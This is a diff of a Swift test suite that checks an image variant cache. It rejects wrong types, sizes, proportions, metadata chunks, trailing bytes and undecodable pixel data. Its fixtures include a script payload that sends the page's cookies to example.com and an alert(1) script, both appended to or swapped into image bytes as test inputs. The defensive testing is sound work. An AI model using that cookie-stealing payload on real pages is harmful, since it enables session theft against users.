@@ -1,41 +1,175 @@
 import Foundation
+import ImageProcessing
 import Testing
 
 @testable import OnboardingKit
 
-/// What the variant cache gives is checked before it is published: WebP of growing widths,
-/// then one fallback, each an image of its listed type and size.
+/// What the variant cache gives is checked before it is published, as any input is: WebP of
+/// growing widths, then one fallback, each an image of its listed type and size in the source's
+/// proportions, with nothing but its pixels (no EXIF, XMP, profile, comment or text), nothing
+/// after its end, and pixel data that decodes whole.
 struct ImageVariantValidationTests {
-    static func made() throws -> [ImageVariantCache.Entry] {
-        let png = ExampleProject.bytes(of: .png)
-        let asset = ImageAsset(sourceFileName: "a.png", bytes: png, size: ImageSize(width: 4, height: 3), isResizable: true)
+    static let png = ExampleProject.bytes(of: .png)
+    /// What the build checks the variants of the 4×3 PNG against.
+    static let check = CachedVariantCheck(widths: [4], fallbackWidth: 4, sourceSize: ImageSize(width: 4, height: 3), isAnimated: false, sourceFrames: 1)
+
+    static func made(_ source: [UInt8] = png, animated: Bool = false) throws -> [ImageVariantCache.Entry] {
+        let format = try #require(ImageInspector.sniffFormat(source))
+        let size = try #require(ImageInspector.size(of: source, format: format))
+        let asset = ImageAsset(sourceFileName: "a", bytes: source, size: size, isResizable: true, isAnimated: animated, frameCount: animated ? 3 : 1)
         return try ImagePublisher.variants(of: asset, quality: 75, cacheFolder: nil).variants.map {
             ImageVariantCache.Entry(mediaType: $0.mediaType, width: $0.width, height: $0.height, bytes: $0.bytes)
         }
     }
 
-    @Test func whatTheBuildMakesIsWhole() throws {
-        let entries = try Self.made()
-        #expect(entries.map(\.mediaType) == ["image/webp", "image/jpeg"])
-        #expect(ImagePublisher.areWhole(entries))
+    /// `entries` with the variant at `index`'s bytes changed by `change`.
+    static func changing(_ entries: [ImageVariantCache.Entry], at index: Int, _ change: ([UInt8]) -> [UInt8]) -> [ImageVariantCache.Entry] {
+        var changed = entries
+        changed[index].bytes = change(entries[index].bytes)
+        return changed
     }
 
-    @Test func anEntryOfAnotherTypeSizeOrOrderIsNot() throws {
+    static let tail = Array("<script>fetch('https://example.com/?'+document.cookie)</script>".utf8)
+    static let gps = Array("Exif\0\0GPSLatitude 51.5 PhoneMaker".utf8)
+
+    @Test func whatTheBuildMakesPasses() throws {
+        let entries = try Self.made()
+        #expect(entries.map(\.mediaType) == ["image/webp", "image/jpeg"])
+        #expect(Self.check.problem(with: entries) == nil)
+    }
+
+    @Test func anEntryOfAnotherTypeSizeOrOrderDoesNot() throws {
         let entries = try Self.made()
         var otherType = entries
         otherType[0].mediaType = "image/html"
         var otherSize = entries
-        otherSize[1].width = 8
+        otherSize[1].width = 3
         var notAnImage = entries
         notAnImage[1].bytes = Array("<script>alert(1)</script>".utf8)
         var mislabelled = entries
         mislabelled[1].mediaType = "image/png"  // JPEG bytes
-        #expect(!ImagePublisher.areWhole(otherType))
-        #expect(!ImagePublisher.areWhole(otherSize))
-        #expect(!ImagePublisher.areWhole(notAnImage))
-        #expect(!ImagePublisher.areWhole(mislabelled))
-        #expect(!ImagePublisher.areWhole(Array(entries.reversed())))
-        #expect(!ImagePublisher.areWhole([entries[0]]))
-        #expect(!ImagePublisher.areWhole([entries[0], entries[0], entries[1]]))  // widths must grow
+        var huge = entries
+        huge[0].width = Int.max / 2
+        for wrong in [otherType, otherSize, notAnImage, mislabelled, huge, Array(entries.reversed()), [entries[0]], [entries[0], entries[0], entries[1]]] {
+            #expect(Self.check.problem(with: wrong) != nil, "\(wrong.map { ($0.mediaType, $0.width, $0.height) })")
+        }
+    }
+
+    /// The same picture in other proportions is not a variant of this source.
+    @Test func anotherShapeDoesNot() throws {
+        let entries = try Self.made()
+        let tall = CachedVariantCheck(widths: [4], fallbackWidth: 4, sourceSize: ImageSize(width: 4, height: 12), isAnimated: false, sourceFrames: 1)
+        #expect(tall.problem(with: entries)?.contains("not in the proportions of the 4×12 source") == true)
+    }
+
+    @Test func aWebPWithMetadataOrATailDoesNot() throws {
+        let entries = try Self.made()
+        func chunk(_ type: String, _ data: [UInt8]) -> [UInt8] { Array(type.utf8) + [UInt8(data.count), 0, 0, 0] + data + (data.count % 2 == 1 ? [0] : []) }
+        func adding(_ extra: [UInt8]) -> ([UInt8]) -> [UInt8] {
+            { webp in
+                let length = webp.count - 8 + extra.count
+                return Array("RIFF".utf8) + [UInt8(length & 0xFF), UInt8(length >> 8 & 0xFF), UInt8(length >> 16), 0] + webp[8...] + extra
+            }
+        }
+        let cases: [(String, ([UInt8]) -> [UInt8])] = [
+            ("a 'EXIF' chunk", adding(chunk("EXIF", Self.gps))), ("a 'XMP ' chunk", adding(chunk("XMP ", Array("<x:xmpmeta/>".utf8)))),
+            ("a 'ICCP' chunk", adding(chunk("ICCP", [0, 0, 0, 0]))), ("bytes after its end", { $0 + Self.tail }),
+        ]
+        for (what, change) in cases {
+            let problem = Self.check.problem(with: Self.changing(entries, at: 0, change))
+            #expect(problem?.contains(what) == true, "\(what): \(problem ?? "accepted")")
+        }
+    }
+
+    @Test func aJPEGWithMetadataOrATailDoesNot() throws {
+        let entries = try Self.made()
+        func inserting(_ segment: [UInt8]) -> ([UInt8]) -> [UInt8] { { Array($0[0..<2]) + segment + $0[2...] } }
+        let exif: [UInt8] = [0xFF, 0xE1, 0, UInt8(Self.gps.count + 2)] + Self.gps
+        let comment: [UInt8] = [0xFF, 0xFE, 0, 7] + Array("hello".utf8)
+        let cases: [(String, ([UInt8]) -> [UInt8])] = [
+            ("an APP1 segment", inserting(exif)), ("a comment", inserting(comment)), ("bytes after its end", { $0 + Self.tail }),
+        ]
+        for (what, change) in cases {
+            let problem = Self.check.problem(with: Self.changing(entries, at: 1, change))
+            #expect(problem?.contains(what) == true, "\(what): \(problem ?? "accepted")")
+        }
+    }
+
+    @Test func aPNGWithTextProfileOrATailDoesNot() throws {
+        // A WebP with transparency: its fallback is a PNG.
+        let url = try #require(Bundle.module.url(forResource: "Fixtures/images/sample-alpha-27x35", withExtension: "webp"))
+        let entries = try Self.made([UInt8](try Data(contentsOf: url)))
+        #expect(entries.last?.mediaType == "image/png")
+        let check = CachedVariantCheck(widths: [27], fallbackWidth: 27, sourceSize: ImageSize(width: 27, height: 35), isAnimated: false, sourceFrames: 1)
+        #expect(check.problem(with: entries) == nil)
+        let fallback = entries.count - 1
+        func inserting(_ type: String, _ data: [UInt8]) -> ([UInt8]) -> [UInt8] {
+            { png in Array(png[0..<33]) + ImageAnimationTests.chunk(type, data) + png[33...] }
+        }
+        for type in ["tEXt", "iTXt", "zTXt", "eXIf", "iCCP", "tIME"] {
+            let problem = check.problem(with: Self.changing(entries, at: fallback, inserting(type, Self.gps)))
+            #expect(problem?.contains("a '\(type)' chunk") == true, "\(type): \(problem ?? "accepted")")
+        }
+        let tailed = check.problem(with: Self.changing(entries, at: fallback) { $0 + Self.tail })
+        #expect(tailed?.contains("bytes after its end") == true, "\(tailed ?? "accepted")")
+    }
+
+    @Test func aGIFWithACommentOrATailDoesNot() throws {
+        let source = AnimatedGIF.make(width: 40, height: 30, frames: [0, 1, 2])
+        let entries = try Self.made(source, animated: true)
+        #expect(entries.map(\.mediaType) == ["image/webp", "image/gif"])
+        let check = CachedVariantCheck(widths: [40], fallbackWidth: 40, sourceSize: ImageSize(width: 40, height: 30), isAnimated: true, sourceFrames: 3)
+        #expect(check.problem(with: entries) == nil)
+        // After the header and the global colour table, where extensions may start.
+        func beforeTheFirstFrame(_ block: [UInt8]) -> ([UInt8]) -> [UInt8] {
+            { gif in
+                let start = 13 + (gif[10] & 0x80 == 0 ? 0 : 3 << (Int(gif[10] & 0x07) + 1))
+                return Array(gif[..<start]) + block + gif[start...]
+            }
+        }
+        let cases: [(String, ([UInt8]) -> [UInt8])] = [
+            ("a comment extension", beforeTheFirstFrame(AnimatedGIF.commentExtension)),
+            ("an application extension ('XMP DataXMP')", beforeTheFirstFrame(AnimatedGIF.xmpExtension)), ("bytes after its end", { $0 + Self.tail }),
+        ]
+        for (what, change) in cases {
+            let problem = check.problem(with: Self.changing(entries, at: 1, change))
+            #expect(problem?.contains(what) == true, "\(what): \(problem ?? "accepted")")
+        }
+        // A still's variants are not an animation's, and frames beyond the source's are not its.
+        let still = CachedVariantCheck(widths: [40], fallbackWidth: 40, sourceSize: ImageSize(width: 40, height: 30), isAnimated: false, sourceFrames: 1)
+        #expect(still.problem(with: entries) != nil)
+        let fewer = CachedVariantCheck(widths: [40], fallbackWidth: 40, sourceSize: ImageSize(width: 40, height: 30), isAnimated: true, sourceFrames: 2)
+        #expect(fewer.problem(with: entries)?.contains("has 3 frames, where the source has 2") == true)
+    }
+
+    /// Whole structure, damaged pixel data: only decoding finds it.
+    @Test func pixelDataThatDoesNotDecodeDoesNot() throws {
+        // 300×200 of fine stripes, whose compressed data is long enough to damage.
+        let source = AnimatedGIF.make(width: 300, height: 200, frames: [0]) { _, x, y in UInt8((x / 2 + y) % 3) }
+        let entries = try Self.made(source)
+        #expect(entries.map(\.mediaType) == ["image/webp", "image/jpeg"])
+        let checked = CachedVariantCheck(widths: [300], fallbackWidth: 300, sourceSize: ImageSize(width: 300, height: 200), isAnimated: false, sourceFrames: 1)
+        #expect(checked.problem(with: entries) == nil)
+        // The JPEG: bytes of its first scan's data made 0xAA, which are no Huffman codes.
+        let jpeg = try #require(entries.last).bytes
+        let scan = try #require((0..<jpeg.count - 1).first { jpeg[$0] == 0xFF && jpeg[$0 + 1] == 0xDA })
+        let dataStart = scan + 2 + (Int(jpeg[scan + 2]) << 8 | Int(jpeg[scan + 3]))
+        var damagedJPEG = jpeg
+        damagedJPEG.replaceSubrange(dataStart + 2..<dataStart + 40, with: Array(repeating: 0xAA, count: 38))
+        // The WebP: its frame header's first partition said to be longer than the data.
+        let webp = entries[0].bytes
+        var chunk = 12
+        while !webp[chunk..<chunk + 4].elementsEqual("VP8 ".utf8) {
+            chunk += 8 + (webp[chunk + 4..<chunk + 8].reversed().reduce(0) { $0 << 8 | Int($1) } + 1) & ~1
+        }
+        var damagedWebP = webp
+        damagedWebP[chunk + 8] |= 0xE0
+        damagedWebP[chunk + 9] = 0xFF
+        damagedWebP[chunk + 10] = 0xFF
+        for (index, damaged) in [(entries.count - 1, damagedJPEG), (0, damagedWebP)] {
+            #expect(ImageStructure.read(damaged, format: index == 0 ? .webp : .jpeg)?.end == damaged.count, "the structure is whole")
+            let problem = checked.problem(with: Self.changing(entries, at: index) { _ in damaged })
+            #expect(problem?.contains("does not decode") == true, "\(index): \(problem ?? "accepted")")
+        }
     }
 }
